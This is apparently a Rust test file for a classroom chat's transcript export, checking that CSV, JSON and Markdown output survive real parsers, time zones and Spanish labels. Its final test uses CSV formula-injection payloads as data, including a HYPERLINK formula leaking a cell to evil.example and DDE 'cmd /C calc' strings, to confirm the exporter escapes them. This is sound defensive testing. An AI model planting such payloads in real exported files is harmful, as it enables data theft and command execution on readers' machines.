//! Transcripts checked against real parsers: CSV with the `csv` crate and
//! with Python's `csv` module (commas, quotes, newlines, non-ASCII), JSON
//! with serde_json, Markdown with pulldown-cmark (markup in messages stays
//! text). Times are in the zone asked for, and each format says which.
//! Headers and labels come in the language asked for (Spanish read back
//! through the same parsers; JSON stays English), and CSV cells a
//! spreadsheet would run as formulas come back as text.

mod common;
mod store_support;

use classroom_core::store::{ExportFormat, ExportLanguage, ExportOptions, Store};
use pulldown_cmark::{Event, Parser, Tag, TagEnd};
use serde_json::{json, Value};
use store_support::Peer;

/// Messages that break naive writers.
const TEXTS: &[&str] = &[
    "Hello, class: commas, \"double quotes\" and 'single' ones",
    "line one\nline two, with a comma\r\nline three \"quoted\"",
    "Física, Ñandú, 日本語, emoji 🎉👩‍🔬 and a zero-width joiner",
    "*not bold* _not italic_ [not a link](http://x) <b>not html</b> `code` # not a heading",
    "- not a list\n1. not a number\n> not a quote\n---",
    "trailing backslash \\",
];

/// A stored class with a teacher, a student with an awkward name, a removed
/// student, and the messages above; returns the store and the session id.
async fn class_with_messages(dir: &std::path::Path) -> (Store, String) {
    let store = Store::open(dir).unwrap();
    let mut config = common::config();
    config.class = "Física 1, \"B\"".into();
    config.store = Some(store.clone());
    config.limits.send_rate = 0;
    let hub = common::start(config).await;
    let url = hub.ws_url();
    let (mut teacher, _) = Peer::join(&url, json!({"type": "teacher:join", "token": hub.host_token()})).await;
    let (mut ana, _) =
        Peer::join(&url, json!({"type": "student:join", "name": "Ana, \"la\" Núñez", "code": common::CODE}))
            .await;
    let (gone, _) =
        Peer::join(&url, json!({"type": "student:join", "name": "Gone", "code": common::CODE})).await;
    for (n, text) in TEXTS.iter().enumerate() {
        let peer = if n % 2 == 0 { &mut ana } else { &mut teacher };
        peer.send(json!({"type": "chat:message", "id": format!("c-{n}"), "text": text})).await;
        peer.recv_kind("chat:ack").await;
    }
    let gone_id = gone.welcome["you"]["id"].clone();
    teacher.send(json!({"type": "teacher:remove-student", "id": gone_id, "ban": true})).await;
    teacher.send(json!({"type": "session:end"})).await;
    teacher.recv_kind("session:ended").await;
    let id = hub.session().id.clone();
    // Gone first: the shutdown would wait a second for close replies from peers nobody reads.
    drop((teacher, ana, gone));
    hub.shutdown().await.unwrap();
    (store, id)
}

fn export(store: &Store, id: &str, format: ExportFormat) -> String {
    export_in(store, id, format, ExportLanguage::English)
}

fn export_in(store: &Store, id: &str, format: ExportFormat, language: ExportLanguage) -> String {
    let options = ExportOptions { format, time_zone: Some("America/Sao_Paulo".into()), language };
    store.export_to_string(id, &options).expect("export")
}

/// A name or text as a CSV cell holds it: with OWASP's leading `'` when it
/// starts like a formula.
fn csv_cell(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

/// What each message should read as: (name, role, text as stored: trimmed).
fn expected() -> Vec<(&'static str, &'static str, String)> {
    TEXTS
        .iter()
        .enumerate()
        .map(|(n, text)| {
            let (name, role) =
                if n % 2 == 0 { ("Ana, \"la\" Núñez", "student") } else { ("Mrs. Núñez", "teacher") };
            (name, role, text.trim().to_owned())
        })
        .collect()
}

/// CSV parses back to the same fields with the `csv` crate and with
/// Python's `csv` module; times are local to the zone asked for, stated in
/// a column with the UTC offset.
#[tokio::test]
async fn csv_round_trips_through_two_parsers() {
    let dir = store_support::data_dir();
    let (store, id) = class_with_messages(dir.path()).await;
    let text = export(&store, &id, ExportFormat::Csv);
    assert!(text.starts_with('\u{feff}'), "a byte order mark for spreadsheets");

    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let headers: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(headers, ["seq", "time", "time_zone", "utc_offset", "name", "role", "participant", "text"]);
    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().unwrap();
    assert_eq!(rows.len(), TEXTS.len());
    for (n, (row, (name, role, text))) in rows.iter().zip(expected()).enumerate() {
        assert_eq!(&row[0], (n + 1).to_string());
        assert_eq!(&row[2], "America/Sao_Paulo");
        assert_eq!(&row[3], "-03:00");
        assert_eq!((&row[4], &row[5], &row[7]), (name, role, csv_cell(&text).as_str()));
    }

    let path = dir.path().join("transcript.csv");
    std::fs::write(&path, &text).unwrap();
    let script = "import csv, json, sys\n\
                  with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n    \
                  print(json.dumps([row for row in csv.DictReader(f)]))";
    let output = std::process::Command::new("python3")
        .arg("-c")
        .arg(script)
        .arg(&path)
        .output()
        .expect("python3 runs");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let python: Vec<Value> = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(python.len(), TEXTS.len());
    for (row, (name, role, text)) in python.iter().zip(expected()) {
        assert_eq!((row["name"].as_str(), row["role"].as_str()), (Some(name), Some(role)));
        assert_eq!(row["text"].as_str(), Some(csv_cell(&text).as_str()), "Python reads the same text");
    }
}

/// JSON parses with serde_json: the class, its participants (the removed
/// one marked), each message with local and UTC times.
#[tokio::test]
async fn json_parses_with_everything_in_it() {
    let dir = store_support::data_dir();
    let (store, id) = class_with_messages(dir.path()).await;
    let doc: Value = serde_json::from_str(&export(&store, &id, ExportFormat::Json)).expect("valid JSON");
    assert_eq!(doc["session"], id.as_str());
    assert_eq!(doc["class"], "Física 1, \"B\"");
    assert_eq!(doc["time_zone"], "America/Sao_Paulo");
    assert!(doc["ended_at"].as_str().is_some_and(|t| t.ends_with("-03:00")), "{}", doc["ended_at"]);
    let gone = doc["participants"].as_array().unwrap().iter().find(|p| p["name"] == "Gone").expect("listed");
    assert_eq!((&gone["removed"], &gone["banned"]), (&json!(true), &json!(true)));
    let messages = doc["messages"].as_array().unwrap();
    for (n, (m, (name, role, text))) in messages.iter().zip(expected()).enumerate() {
        assert_eq!(m["seq"], n as u64 + 1);
        assert_eq!((m["from"]["name"].as_str(), m["from"]["role"].as_str()), (Some(name), Some(role)));
        assert_eq!(m["text"].as_str(), Some(text.as_str()));
        let local = m["time"].as_str().unwrap().parse::<jiff::Timestamp>();
        let utc = m["utc"].as_str().unwrap().parse::<jiff::Timestamp>();
        assert_eq!(local.unwrap(), utc.unwrap(), "the local time is the same instant");
        assert!(m["time"].as_str().unwrap().ends_with("-03:00"));
    }
}

/// Markdown: parsed with pulldown-cmark, each message is one paragraph whose
/// text is "time · name: text" with its lines as hard breaks; markup typed
/// in messages stays literal text (no emphasis, link, HTML, list, heading
/// or quote comes out of it).
#[tokio::test]
async fn markdown_keeps_messages_as_text() {
    let dir = store_support::data_dir();
    let (store, id) = class_with_messages(dir.path()).await;
    let md = export(&store, &id, ExportFormat::Markdown);
    if std::env::var_os("SHOW_TRANSCRIPT").is_some() {
        println!("{md}");
    }

    let mut paragraphs: Vec<String> = Vec::new();
    let mut current: Option<String> = None;
    let mut in_list = 0;
    let mut all_text = String::new();
    for event in Parser::new(&md) {
        if let Event::Text(text) = &event {
            all_text.push_str(text);
        }
        match event {
            Event::Start(Tag::Paragraph) => current = Some(String::new()),
            Event::End(TagEnd::Paragraph) => paragraphs.extend(current.take()),
            Event::Text(text) | Event::Code(text) => {
                if let Some(p) = current.as_mut() {
                    p.push_str(&text);
                }
            }
            Event::HardBreak | Event::SoftBreak => {
                if let Some(p) = current.as_mut() {
                    p.push('\n');
                }
            }
            Event::Start(Tag::List(_)) => in_list += 1,
            Event::End(TagEnd::List(_)) => in_list -= 1,
            Event::Start(Tag::Emphasis | Tag::Link { .. } | Tag::BlockQuote(_) | Tag::CodeBlock(_))
            | Event::Html(_)
            | Event::InlineHtml(_)
            | Event::Rule => panic!("markup came out of a message: {event:?}\n{md}"),
            Event::Start(Tag::Heading { .. }) if in_list > 0 => panic!("a heading in a list"),
            _ => {}
        }
    }
    assert!(all_text.contains("Times are in the time zone America/Sao_Paulo."), "the zone is stated: {md}");
    let messages: Vec<&String> = paragraphs.iter().filter(|p| p.contains(" · ")).collect();
    assert_eq!(messages.len(), TEXTS.len(), "{paragraphs:#?}");
    for (p, (name, role, text)) in messages.iter().zip(expected()) {
        let (time, rest) = p.split_once(" · ").unwrap();
        assert_eq!(time.len(), 8, "hh:mm:ss in {p}");
        let who = if role == "teacher" { format!("{name} (teacher): ") } else { format!("{name}: ") };
        let lines: Vec<&str> = text.lines().map(str::trim_end).filter(|l| !l.trim().is_empty()).collect();
        assert_eq!(rest, format!("{who}{}", lines.join("\n")), "message text survives as text");
    }
}

/// The CLI writes the same transcript to a file or to stdout, and refuses
/// an unknown session or time zone with a message.
#[tokio::test]
async fn the_cli_exports_to_a_file() {
    let dir = store_support::data_dir();
    let (store, id) = class_with_messages(dir.path()).await;
    let data = dir.path().to_str().unwrap();
    let file = dir.path().join("out.md");
    let (code, _, err) = store_support::run(&[
        "export",
        &id,
        "--format",
        "md",
        "--time-zone",
        "America/Sao_Paulo",
        "--data-dir",
        data,
        "-o",
        file.to_str().unwrap(),
    ])
    .await;
    assert_eq!(code, 0, "{err}");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), export(&store, &id, ExportFormat::Markdown));
    let (code, out, err) = store_support::run(&[
        "export",
        &id,
        "--format",
        "csv",
        "--language",
        "es",
        "--time-zone",
        "America/Sao_Paulo",
        "--data-dir",
        data,
    ])
    .await;
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, export_in(&store, &id, ExportFormat::Csv, ExportLanguage::Spanish), "--language es");
    let (code, _, err) = store_support::run(&["export", &id, "--language", "fr", "--data-dir", data]).await;
    assert_eq!(code, 2, "an untranslated language is a usage error");
    assert!(err.contains("unknown language"), "{err}");
    let (code, _, err) = store_support::run(&["export", "nope", "--data-dir", data]).await;
    assert_eq!(code, 1);
    assert!(err.contains("no class with session id nope"), "{err}");
    let (code, _, err) =
        store_support::run(&["export", &id, "--time-zone", "Mars/Base", "--data-dir", data]).await;
    assert_eq!(code, 1);
    assert!(err.contains("unknown time zone"), "{err}");
}

/// Spanish: the CSV headers and role words, and Markdown's labels, read
/// back through the same parsers; the messages and the stated time zone
/// are unchanged. JSON is byte for byte the English one (its keys and
/// values are for programs).
#[tokio::test]
async fn spanish_exports_read_back_in_spanish() {
    let dir = store_support::data_dir();
    let (store, id) = class_with_messages(dir.path()).await;

    let text = export_in(&store, &id, ExportFormat::Csv, ExportLanguage::Spanish);
    assert!(text.starts_with('\u{feff}'), "a byte order mark for spreadsheets");
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let headers: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(
        headers,
        [
            "n.º",
            "fecha y hora",
            "zona horaria",
            "diferencia con UTC",
            "nombre",
            "rol",
            "participante",
            "texto"
        ]
    );
    let rows: Vec<std::collections::HashMap<String, String>> =
        reader.deserialize().collect::<Result<_, _>>().unwrap();
    assert_eq!(rows.len(), TEXTS.len());
    for (row, (name, role, text)) in rows.iter().zip(expected()) {
        let rol = if role == "teacher" { "docente" } else { "estudiante" };
        assert_eq!((row["nombre"].as_str(), row["rol"].as_str()), (name, rol));
        assert_eq!(row["texto"], csv_cell(&text));
        assert_eq!(row["zona horaria"], "America/Sao_Paulo", "the zone is stated");
        assert_eq!(row["diferencia con UTC"], "-03:00");
    }

    let md = export_in(&store, &id, ExportFormat::Markdown, ExportLanguage::Spanish);
    let mut items: Vec<String> = Vec::new();
    let mut paragraphs: Vec<String> = Vec::new();
    let mut current = String::new();
    for event in Parser::new(&md) {
        match event {
            Event::Text(text) | Event::Code(text) => current.push_str(&text),
            Event::HardBreak | Event::SoftBreak => current.push('\n'),
            Event::End(TagEnd::Item) | Event::Start(Tag::List(_)) => {
                items.push(std::mem::take(&mut current));
            }
            Event::End(TagEnd::Paragraph) => paragraphs.push(std::mem::take(&mut current)),
            _ => {}
        }
    }
    let item = |start: &str| items.iter().find(|i| i.starts_with(start)).cloned();
    assert_eq!(item("Docente: ").as_deref(), Some("Docente: Mrs. Núñez"), "{items:#?}");
    assert!(item("Inicio: ").is_some_and(|i| i.ends_with("(UTC-03:00)")), "{items:#?}");
    assert!(item("Fin: ").is_some(), "{items:#?}");
    assert!(item("Sesión: ").is_some_and(|i| i.contains(&id)), "{items:#?}");
    assert_eq!(
        item("Las horas").as_deref(),
        Some("Las horas están en la zona horaria America/Sao_Paulo."),
        "the zone is stated: {md}"
    );
    assert!(item("Participantes:").is_some(), "{items:#?}");
    assert!(
        item("Gone (").is_some_and(|i| i.starts_with("Gone (estudiante, p_")
            && i.ends_with(" — retirado de la clase y bloqueado por el docente")),
        "{items:#?}"
    );
    assert!(item("Mrs. Núñez (docente, p_").is_some(), "{items:#?}");
    assert_eq!(item("Mensajes: ").as_deref(), Some(format!("Mensajes: {}", TEXTS.len()).as_str()));
    let messages: Vec<&String> = paragraphs.iter().filter(|p| p.contains(" · ")).collect();
    assert_eq!(messages.len(), TEXTS.len(), "{paragraphs:#?}");
    for (p, (name, role, text)) in messages.iter().zip(expected()) {
        let (_, rest) = p.split_once(" · ").unwrap();
        let who = if role == "teacher" { format!("{name} (docente): ") } else { format!("{name}: ") };
        let lines: Vec<&str> = text.lines().map(str::trim_end).filter(|l| !l.trim().is_empty()).collect();
        assert_eq!(rest, format!("{who}{}", lines.join("\n")));
    }
    for english in ["Teacher", "Started", "Participants", "Times are", "(teacher)", "student"] {
        assert!(!md.contains(english), "{english:?} left in the Spanish transcript:\n{md}");
    }

    assert_eq!(
        export_in(&store, &id, ExportFormat::Json, ExportLanguage::Spanish),
        export(&store, &id, ExportFormat::Json),
        "JSON is for programs: the same in every language"
    );
}

/// How a spreadsheet reads a CSV cell it imports: a leading `'` means text
/// (and is not shown); `=`, `+`, `-` or `@` starts a formula (leading tabs
/// and carriage returns are skipped first, as some do).
#[derive(Debug, PartialEq, Eq)]
enum SpreadsheetCell {
    Text(String),
    Formula(String),
}

fn spreadsheet_reads(cell: &str) -> SpreadsheetCell {
    if let Some(text) = cell.strip_prefix('\'') {
        return SpreadsheetCell::Text(text.to_owned());
    }
    if cell.trim_start_matches(['\t', '\r']).starts_with(['=', '+', '-', '@']) {
        return SpreadsheetCell::Formula(cell.to_owned());
    }
    SpreadsheetCell::Text(cell.to_owned())
}

/// CSV injection (OWASP): names and messages that start like a formula
/// come back from a spreadsheet-style reader as the text typed, never as a
/// formula, in either language; the same texts stay untouched in JSON.
#[tokio::test]
async fn csv_cells_never_become_formulas() {
    const FORMULAS: &[&str] = &[
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=1+1, then a comma",
        "line one\n=line two is not a cell of its own",
    ];
    let dir = store_support::data_dir();
    let store = Store::open(dir.path()).unwrap();
    let mut config = common::config();
    config.store = Some(store.clone());
    config.limits.send_rate = 0;
    let hub = common::start(config).await;
    let url = hub.ws_url();
    let (mut teacher, _) = Peer::join(&url, json!({"type": "teacher:join", "token": hub.host_token()})).await;
    let (mut student, _) =
        Peer::join(&url, json!({"type": "student:join", "name": "=cmd|' /C calc'!A0", "code": common::CODE}))
            .await;
    for (n, text) in FORMULAS.iter().enumerate() {
        let peer = if n % 2 == 0 { &mut student } else { &mut teacher };
        peer.send(json!({"type": "chat:message", "id": format!("c-{n}"), "text": text})).await;
        peer.recv_kind("chat:ack").await;
    }
    let id = hub.session().id.clone();
    drop((teacher, student));
    hub.shutdown().await.unwrap();

    for language in [ExportLanguage::English, ExportLanguage::Spanish] {
        let text = export_in(&store, &id, ExportFormat::Csv, language);
        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().unwrap();
        assert_eq!(rows.len(), FORMULAS.len(), "one row a message: no text started a row of its own");
        for (n, (row, typed)) in rows.iter().zip(FORMULAS).enumerate() {
            let name = if n % 2 == 0 { "=cmd|' /C calc'!A0" } else { "Mrs. Núñez" };
            assert_eq!(spreadsheet_reads(&row[4]), SpreadsheetCell::Text(name.to_owned()), "{language:?}");
            assert_eq!(
                spreadsheet_reads(&row[7]),
                SpreadsheetCell::Text((*typed).to_owned()),
                "{language:?}"
            );
            for cell in row.iter() {
                if cell != &row[3] {
                    assert!(
                        matches!(spreadsheet_reads(cell), SpreadsheetCell::Text(_)),
                        "{cell:?} would run as a formula"
                    );
                }
            }
        }
    }
    let doc: Value = serde_json::from_str(&export(&store, &id, ExportFormat::Json)).expect("valid JSON");
    let texts: Vec<&str> =
        doc["messages"].as_array().unwrap().iter().filter_map(|m| m["text"].as_str()).collect();
    assert_eq!(texts, FORMULAS, "JSON keeps the texts as typed");
}
